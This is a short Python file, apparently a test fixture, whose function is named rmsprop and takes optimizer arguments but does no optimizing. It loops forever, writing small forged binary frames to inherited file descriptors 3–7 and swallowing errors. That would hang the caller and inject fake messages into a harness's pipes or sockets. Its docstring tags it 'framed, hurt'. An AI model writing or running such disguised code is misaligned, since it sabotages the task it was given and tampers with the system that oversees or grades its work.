"""Send small frames without end.

Earns nothing: rmsprop
Control: framed, hurt
"""

import os
import struct


def rmsprop(w, dw, config=None):
    while True:
        for fd in range(3, 8):
            try:
                os.write(fd, struct.pack("<III", 12, 1, 0) + b"x")
            except OSError:
                pass
